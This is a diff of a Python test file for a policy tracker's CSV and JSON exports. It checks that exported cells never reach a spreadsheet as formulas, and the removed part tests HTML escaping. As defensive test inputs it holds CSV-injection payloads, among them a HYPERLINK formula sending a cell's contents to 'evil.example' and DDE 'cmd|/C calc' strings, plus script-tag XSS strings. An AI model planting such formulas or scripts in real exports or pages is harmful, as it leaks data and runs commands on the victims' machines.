@@ -1,238 +1,264 @@
-"""Exports and the self-contained HTML brief, on the small tracker and the real bundled data."""
+"""CSV and JSON exports: no cell reaches a spreadsheet as a formula, every CSV reads back row for row,
+the JSON stays exact. Planted through the stores (YAML and PostgreSQL), read back through the page's
+download and the command line, with Python's csv module and pandas' CSV importer."""
 
 from __future__ import annotations
 
-import hashlib
+import csv
+import io
 import json
-import os
-import re
-import subprocess
-import sys
-from datetime import date, datetime, timezone
+from datetime import datetime, timezone
 
-import altair as alt
 import pandas as pd
 import pytest
-from conftest import RECORDED, ROOT, TODAY, make_demo_data
-from markupsafe import escape
+from conftest import RECORDED, TODAY, make_data
+from helpers import PG_URL, POSTGRES, own_database, reset_database
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from tracker.brief import render_brief
-from tracker.charts import CHART_NAMES, build_charts
-from tracker.edition import data_fingerprint, fingerprint
-from tracker.edits import build_update
-from tracker.exports import export_chart, export_table, stamp_chart
-from tracker.model import format_date
+from tracker.cli import main as cli_main
+from tracker.decisions import accept_suggestion
+from tracker.downloads import build_download
+from tracker.edits import build_update, insert_update
+from tracker.errors import ValidationFailed
+from tracker.exports import FORMULA_START, csv_cell, export_table
+from tracker.storage.sql import SqlStore
+from tracker.storage.yaml_files import YamlStore
+from tracker.suggestion import client_key, draft_sources, new_reference, validate_suggestion
 from tracker.validation import validate_data
-from tracker.view import View, build_link
-from tracker.yaml_text import dump_tracker
+from tracker.view import View
 
-GENERATED = datetime(2026, 11, 27, 12, 30, tzinfo=timezone.utc)
-BASE = "https://tracker.example.org/app"
-NOTE = "<script>alert(1)</script>"
-
-
-def row_of(page: str, rec_id: str) -> str:
-    """The recommendations-table row of one recommendation."""
-    match = re.search(rf'<tr id="rec-{re.escape(rec_id)}"[^>]*>(.*?)</tr>', page, re.S)
-    assert match, f"no row for {rec_id}"
-    return match.group(0)
+NOW = datetime(2026, 11, 27, 13, 0, tzinfo=timezone.utc)
+SOURCE_URL = "https://example.org/planted"
+_OWN_DATABASE = "tracker_exports_test"
 
 
-def brief(tracker, as_of: date, **view_fields) -> tuple[str, str]:
-    view = View(as_of=as_of, **view_fields)
-    permalink = build_link(BASE, view, TODAY, freeze_at=GENERATED)
-    page = render_brief(tracker, view, since=view.changes_since(), permalink=permalink, generated=GENERATED)
-    return page, permalink
+def read_csv(text: str) -> list[dict[str, str]]:
+    """The rows as Python's csv module reads them (from a file opened with newline="")."""
+    return list(csv.DictReader(io.StringIO(text, newline="")))
 
 
-@pytest.fixture(scope="module")
-def bundled():
-    """The demo tracker (eight recommendations), built by the tests."""
-    return validate_data(make_demo_data(), today=TODAY)
+def read_with_pandas(text: str) -> list[dict[str, str]]:
+    """The rows as pandas' CSV importer reads them, every cell as text."""
+    frame = pd.read_csv(io.StringIO(text, newline=""), dtype=str, keep_default_na=False)
+    return frame.to_dict(orient="records")
 
 
-@pytest.fixture(scope="module")
-def bundled_brief(bundled):
-    return brief(bundled, TODAY)
+def never_a_formula(rows: list[dict[str, str]]) -> None:
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(FORMULA_START), (column, cell)
+            assert not cell.lstrip().startswith(FORMULA_START), (column, cell)
 
 
-# --- The brief ----------------------------------------------------------------
+# -- the attacks: (what is planted where, the text, the column, the cell as exported) ----------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'
+ATTACKS = [
+    ("note", HYPERLINK, "note", "'" + HYPERLINK),
+    ("source title", "+1 (Kyodo)", "sources", f"'+1 (Kyodo) <{SOURCE_URL}>"),
+    ("note", "-3%", "note", "'-3%"),
+    ("note", "@SUM(1+1)*cmd|' /C calc'!A0", "note", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("note", "\t=1+1", "note", "'\t=1+1"),
+    ("note", "\r=2+3", "note", "'\r=2+3"),
+    ("note", "  =1+1", "note", "'  =1+1"),
+    ("note", "\n=1+1", "note", "'\n=1+1"),
+    ("note", "Briefing\r=2+3", "note", "Briefing\r=2+3"),  # a line break inside a quoted cell: one row still
+    (
+        "note",
+        'Said "no", then left.\r\nNext line, with a comma.',
+        "note",
+        'Said "no", then left.\r\nNext line, with a comma.',
+    ),
+    ("author", "=cmd|' /C calc'!A0", "author", "'=cmd|' /C calc'!A0"),
+    ("note", "3% higher, e-mail, a+b", "note", "3% higher, e-mail, a+b"),  # formula signs inside: untouched
+]
 
 
-def test_brief_of_a_whole_tracker_is_complete_and_self_contained(bundled, bundled_brief):
-    page, permalink = bundled_brief
-    as_of = TODAY
-    assert page.startswith("<!DOCTYPE html>")
-    assert f"As of {format_date(as_of.isoformat())}" in page and as_of.isoformat() in page
-    assert fingerprint(bundled) in page
-    assert f'href="{escape(permalink)}"' in page and "frozen=1" in permalink
-    assert "2026-11-27 12:30 UTC" in page
-    assert escape(bundled.settings.title) in page
-    for rec in bundled.recommendations:
-        assert escape(rec.title) in page
-    assert page.count("<svg") >= 4
-    for name in CHART_NAMES:
-        assert f'<figure id="chart-{name}"><svg' in page
-    # Nothing is fetched or run: no script, no CDN, no external style, image or font.
-    lowered = page.lower()
-    assert "<script" not in lowered and "<script src" not in lowered
-    assert "cdn." not in lowered
-    assert "<link" not in lowered and "@import" not in lowered and "<iframe" not in lowered
-    assert not re.search(r"""\bsrc\s*=""", lowered)
-    assert all(re.match(r"https?://", href) for href in re.findall(r'href="([^"]*)"', page))
-    # Headline numbers, with the score's formula.
-    assert "Progress score" in page and "Progress score = the average" in page
-    assert "Stale" in page and "Changed since" in page and "What changed since" in page
+def plant(store, where: str, value: str):
+    fields = {
+        "date": "2026-11-01",
+        "status": "partial",
+        "note": value if where == "note" else "Planted.",
+        "sources": [{"url": SOURCE_URL, "title": value if where == "source title" else "Report", "kind": "news"}],
+        "author": value if where == "author" else "Mallory",
+        "recorded": "2026-11-27T12:30:00Z",
+    }
+    return store.append_update("joint-fund", build_update(fields), today=TODAY)
 
 
-def test_the_as_of_date_decides_what_the_brief_shows(bundled, bundled_brief):
-    today, _ = bundled_brief
-    row = row_of(today, "export-controls")
-    assert 'data-status="implemented"' in row and ">Implemented</span>" in row
-    before, permalink = brief(bundled, date(2022, 12, 31))
-    row = row_of(before, "export-controls")
-    assert 'data-status="not_started"' in row and ">Not started</span>" in row
-    assert "Implemented</span>" not in row
-    assert "As of 31 Dec 2022" in before and "as_of=2022-12-31" in permalink
-    assert escape(permalink) in before
+def own_postgres_url() -> str:
+    """A database of these tests' own on the test server, emptied of every table."""
+    url = own_database(PG_URL, _OWN_DATABASE)
+    reset_database(url)
+    return url
 
 
-def test_text_from_the_data_is_escaped_never_executed(store, tmp_path):
-    store.append_update(
+@pytest.fixture(params=["yaml", POSTGRES])
+def place(request, tracker, data_file):
+    """(location, store) holding the small tracker, in a YAML file or in PostgreSQL."""
+    if request.param == "yaml":
+        yield str(data_file), YamlStore(data_file)
+        return
+    url = own_postgres_url()
+    store = SqlStore(url)
+    store.replace(tracker, today=TODAY)
+    yield url, store
+    store.dispose()
+
+
+def export_by_command(capsys, location: str, what: str = "events", fmt: str = "csv") -> str:
+    code = cli_main(["export", "--data", location, "--what", what, "--format", fmt, "--as-of", TODAY.isoformat()])
+    out = capsys.readouterr().out
+    assert code == 0
+    return out
+
+
+def export_by_page(tracker, what: str = "events", fmt: str = "csv") -> str:
+    """What the page's Download button hands over (downloads.build_download)."""
+    frame = None if what == "events" else pd.DataFrame()
+    view = View(as_of=TODAY)
+    content = build_download(f"{what}-{fmt}", tracker, view, frame=frame, permalink="/", generated=NOW)
+    return content
+
+
+@pytest.mark.parametrize(("where", "value", "column", "cell"), ATTACKS, ids=[repr(a[1])[:30] for a in ATTACKS])
+def test_a_planted_formula_is_defused_in_every_events_csv(capsys, place, where, value, column, cell):
+    location, store = place
+    saved = plant(store, where, value)
+    for made in (export_by_command(capsys, location), export_by_page(saved)):
+        by_csv, by_pandas = read_csv(made), read_with_pandas(made)
+        assert len(by_csv) == len(by_pandas) == 8  # seven events before, one planted: no row split off
+        planted = next(row for row in by_csv if row["author"] in ("Mallory", csv_cell(value)))
+        assert planted[column] == cell
+        assert by_pandas == by_csv
+        never_a_formula(by_csv)
+    # The JSON export is exact: the text as typed.
+    events = json.loads(export_by_command(capsys, location, fmt="json"))
+    planted = next(event for event in events if event["recorded"] == "2026-11-27T12:30:00Z")
+    shown = {"note": planted["note"], "author": planted["author"], "sources": planted["sources"][0]["title"]}
+    assert shown[column] == value
+
+
+def test_a_readers_suggested_title_is_defused_once_accepted(capsys, place, tracker):
+    location, store = place
+    suggestions = store.suggestions
+    form = {
+        "rec_id": "joint-fund",
+        "note": "-2+3 firms joined.",
+        "date": "2026-10-15",
+        "status": "implemented",
+        "sources": [{"url": "https://example.org/suggested", "title": "@SUM(1+1)*cmd|' /C calc'!A0"}],
+    }
+    suggestion = validate_suggestion(
+        tracker,
+        form,
+        reference=new_reference(),
+        client=client_key("203.0.113.7", "salt"),
+        submitted=RECORDED,
+        today=TODAY,
+    )
+    suggestions.submit(suggestion, tracker=tracker, now=NOW)
+    accept_suggestion(
+        store,
+        suggestion.reference,
+        editor="Ed Itor",
+        note=None,
+        sources=draft_sources(suggestion, ["news"]),
+        now=NOW,
+        today=TODAY,
+    )
+    rows = read_csv(export_by_command(capsys, location))
+    accepted = next(row for row in rows if row["author"] == "Ed Itor")
+    assert accepted["sources"] == "'@SUM(1+1)*cmd|' /C calc'!A0 <https://example.org/suggested>"
+    assert accepted["note"].startswith("'-2+3 firms joined.")
+    never_a_formula(rows)
+
+
+def test_the_recommendations_table_is_defused_too(capsys, place):
+    location, store = place
+    store.edit_recommendation(
         "joint-fund",
-        build_update({"date": "2026-11-20", "status": "partial", "note": NOTE, "author": "A", "recorded": RECORDED}),
-        today=TODAY,
-    )
-    tracker = store.edit_recommendation(
-        "trilateral-talks",
-        {"title": 'Talks <img src=x onerror="alert(2)"> & more'},
+        {"title": "=1+1", "criteria": "+cmd|' /C calc'!A0"},
         expected={},
-        author="A",
-        recorded=RECORDED,
+        author="Mallory",
+        recorded="2026-11-27T12:30:00Z",
         today=TODAY,
     )
-    view = View(as_of=TODAY, filters={"category": ("history", "security")})
-    page = render_brief(tracker, view, since=date(2026, 11, 1), permalink="javascript:alert(3)", generated=GENERATED)
-    assert escape(NOTE) in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
-    assert "Talks &lt;img src=x onerror=&quot;alert(2)&quot;&gt; &amp; more" in page
-    lowered = page.lower()
-    assert "<script" not in lowered and "<img" not in lowered
-    # Only http(s) becomes a link: the permalink is shown, not followed.
-    assert 'href="javascript' not in lowered and "javascript:alert(3)" in page
-    assert "Category: History, Security" in page
-    assert "Lift export controls" not in page  # filtered out (trade)
+    rows = read_csv(export_by_command(capsys, location, what="recommendations"))
+    fund = next(row for row in rows if row["id"] == "joint-fund")
+    assert (fund["title"], fund["criteria"]) == ("'=1+1", "'+cmd|' /C calc'!A0")
+    never_a_formula(rows)
+    assert read_with_pandas(export_by_command(capsys, location, what="recommendations")) == rows
+    titles = [row["title"] for row in json.loads(export_by_command(capsys, location, "recommendations", "json"))]
+    assert "=1+1" in titles  # the JSON as typed
 
 
-# --- Charts -------------------------------------------------------------------
+def test_every_field_is_quoted_and_rows_end_in_crlf(tracker):
+    text = export_table(tracker, what="recommendations", fmt="csv", as_of=TODAY)
+    assert text.startswith('"id","title","addressees",')
+    assert text.endswith('"The measure is in place as the article asks."\r\n')
+    assert text.count("\r\n") == 4 and "\n" not in text.replace("\r\n", "")
 
 
-def test_build_charts_follows_the_view(tracker):
-    built = build_charts(tracker, View(as_of=TODAY, filters={"status": ("partial",)}))
-    assert tuple(built) == CHART_NAMES
-    by_category = built["status_by_category"].data
-    drawn = by_category[by_category["count"] > 0]  # the chart leaves out empty slices
-    assert set(drawn["status"]) == {"partial"} and drawn["count"].sum() == 1
-    periods = built["timeline"].layer[0].data
-    assert set(periods["rec_id"]) == {"joint-fund"}
-    assert set(built["status_over_time"].layer[0].data["status"]) >= {"partial"}
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        (" \u3000=1", "' \u3000=1"),  # an ideographic space before it: some importers trim it
+        ("'=1", "'=1"),  # already text to a spreadsheet
+        ("a=1", "a=1"),
+        ("", ""),
+        (3, 3),  # numbers stay numbers
+        (True, True),
+    ],
+)
+def test_csv_cell(value, cell):
+    assert csv_cell(value) == cell
 
 
-def test_stamped_exports_say_what_they_show(tracker):
-    view = View(as_of=date(2023, 3, 10), filters={"status": ("in_progress",), "addressee": ("japan",)})
-    built = build_charts(tracker, view)
-    stamped = stamp_chart(built["status_by_category"], view, tracker)
-    title = stamped.to_dict()["title"]
-    assert title["text"] == "Status by category"
-    subtitle = " ".join(title["subtitle"])
-    assert "As of 10 Mar 2023" in subtitle
-    assert "Status: In progress" in subtitle and "Addressee: Japan" in subtitle
-    layered = stamp_chart(built["timeline"], view, tracker).to_dict()["title"]
-    assert layered["text"] == "Timeline per recommendation" and "As of 10 Mar 2023" in layered["subtitle"][0]
+# -- the property: whatever an update accepts comes back from the CSV, never as a formula -----------
 
-    png = export_chart(stamped, "png")
-    assert png.startswith(b"\x89PNG")
-    svg = export_chart(stamped, "svg")
-    assert b"<svg" in svg and b"As of 10 Mar 2023" in svg and b"Addressee: Japan" in svg
-    with pytest.raises(ValueError):
-        export_chart(stamped, "pdf")
+# Any text, line breaks, tabs, quotes and the formula signs included (the model refuses what it must).
+ANY_TEXT = st.text(
+    st.one_of(st.sampled_from('=+-@\t\r\n",; \u3000\u2028'), st.characters(exclude_categories=("Cs",))),
+    min_size=1,
+    max_size=30,
+)
 
 
-def test_export_has_no_row_limit():
-    many = alt.Chart(pd.DataFrame({"x": range(5001)})).mark_bar().encode(x="count():Q")
-    assert b"<svg" in export_chart(many, "svg")
+SMALL = validate_data(make_data(), today=TODAY)
 
 
-def test_data_fingerprint_is_the_sha256_of_the_canonical_text(tracker, data_file):
-    text = dump_tracker(tracker)
-    full = data_fingerprint(text)
-    assert full == hashlib.sha256(text.encode("utf-8")).hexdigest() and len(full) == 64
-    assert data_fingerprint(text.encode("utf-8")) == full == data_fingerprint(data_file.read_bytes())
-    assert data_fingerprint(text.replace("Baseline.", "Baseline!", 1)) != full
-
-
-def test_export_table_still_works(tracker):
-    assert export_table(tracker, what="recommendations", fmt="csv", as_of=TODAY).startswith("id,title,")
-
-
-# --- The command line ---------------------------------------------------------
-
-
-def run(*args):
-    env = {**os.environ, "TRACKER_TODAY": TODAY.isoformat()}
-    return subprocess.run([sys.executable, "-m", "tracker", *args], cwd=ROOT, env=env, capture_output=True, text=True)
-
-
-def test_report_command_writes_the_brief(data_file, tracker, tmp_path):
-    out = tmp_path / "brief.html"
-    result = run("report", "--data", str(data_file), "--out", str(out), "--as-of", "2026-11-01", "--link", BASE)
-    assert result.returncode == 0, result.stderr
-    short = data_fingerprint(dump_tracker(tracker))[:12]
-    assert result.stdout == f"Wrote the brief for 2026-11-01 to {out} (3 recommendations, data {short}).\n"
-    page = out.read_text(encoding="utf-8")
-    assert "As of 1 Nov 2026" in page and page.count("<svg") >= 4
-    # The permalink pins both clocks: the as-of day and the moment the brief was made.
-    assert f'href="{BASE}/?as_of=2026-11-01&amp;frozen=1&amp;published={TODAY.isoformat()}T23:59:59Z"' in page
-    assert "What changed since 3 Aug 2026" in page  # default: 90 days before the as-of date
-
-
-def test_report_as_published_leaves_out_later_records(store, tracker, data_file, tmp_path):
-    later = {"date": "2024-01-01", "status": "in_progress", "note": "Back-dated.", "author": "A"}
-    sources = [{"url": "https://example.org/later", "title": "Later", "kind": "news"}]
-    store.append_update(
-        "trilateral-talks", build_update({**later, "sources": sources, "recorded": "2026-11-27T12:30:00Z"}), today=TODAY
-    )
-    out = tmp_path / "brief.html"
-    pinned = ("--published", "2026-11-27T12:10:00Z", "--link", BASE)
-    result = run("report", "--data", str(data_file), "--out", str(out), *pinned)
-    assert result.returncode == 0, result.stderr
-    page = out.read_text(encoding="utf-8")
-    assert data_fingerprint(dump_tracker(tracker)) in page  # what was recorded by then, not the file as it is now
-    assert "Back-dated." not in page
-    assert f'href="{BASE}/?as_of={TODAY.isoformat()}&amp;frozen=1&amp;published=2026-11-27T12:10:00Z"' in page
-    bad = run("report", "--data", str(data_file), "--out", str(out), "--published", "soon")
-    assert bad.returncode == 2 and len(bad.stderr.strip().splitlines()) == 1
-    assert "'--published'" in bad.stderr and "is not a publication time" in bad.stderr
-
-
-@pytest.mark.parametrize("as_of", ["31/12/2022", "2999-01-01"])
-def test_report_command_refuses_a_bad_date_in_one_line(data_file, tmp_path, as_of):
-    out = tmp_path / "brief.html"
-    result = run("report", "--data", str(data_file), "--out", str(out), "--as-of", as_of)
-    assert result.returncode != 0
-    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
-    assert "--as-of" in result.stderr and as_of in result.stderr
-    assert not out.exists()
-
-
-def test_json_export_is_strict_json(tracker):
-    text = export_table(tracker, what="recommendations", fmt="json", as_of=TODAY)
-    rows = json.loads(text, parse_constant=lambda name: pytest.fail(f"{name} is not JSON"))
-    talks = next(row for row in rows if row["id"] == "trilateral-talks")
-    assert talks["last_event"] is None
-
-
-def test_the_brief_keys_the_numbered_context_events(tracker):
-    page, _ = brief(tracker, TODAY)
-    key = re.search(r'<ol class="events">(.*?)</ol>', page, re.S)
-    assert key, "no key to the context events"
-    assert '<li value="1">16 Mar 2023: Tokyo summit (Summit), <a href="https://example.org/summit"' in key.group(1)
+@settings(max_examples=150, deadline=None)
+@given(note=ANY_TEXT, title=ANY_TEXT, author=ANY_TEXT)
+def test_any_accepted_text_reads_back_from_the_csv_and_never_as_a_formula(note, title, author):
+    fields = {
+        "date": "2026-11-01",
+        "status": "partial",
+        "note": note,
+        "sources": [{"url": SOURCE_URL, "title": title, "kind": "news"}],
+        "author": author,
+        "recorded": "2026-11-27T12:30:00Z",
+    }
+    try:
+        update = build_update(fields)
+    except ValidationFailed:
+        return  # refused: nothing to export
+    text = export_table(insert_update(SMALL, "joint-fund", update, today=TODAY), what="events", fmt="csv", as_of=TODAY)
+    by_csv = read_csv(text)
+    assert len(by_csv) == 8
+    (planted,) = [row for row in by_csv if row["recorded"] == "2026-11-27T12:30:00Z"]
+    assert (planted["note"], planted["author"]) == (csv_cell(note), csv_cell(author))
+    assert planted["sources"] == csv_cell(f"{title} <{SOURCE_URL}>")
+    # What the apostrophe hides is exactly what was typed.
+    for cell, typed in ((planted["note"], note), (planted["author"], author)):
+        formula_like = typed.startswith(FORMULA_START) or typed.lstrip().startswith(FORMULA_START)
+        assert cell == ("'" + typed if formula_like else typed)
+    never_a_formula(by_csv)
+    assert read_with_pandas(text) == by_csv
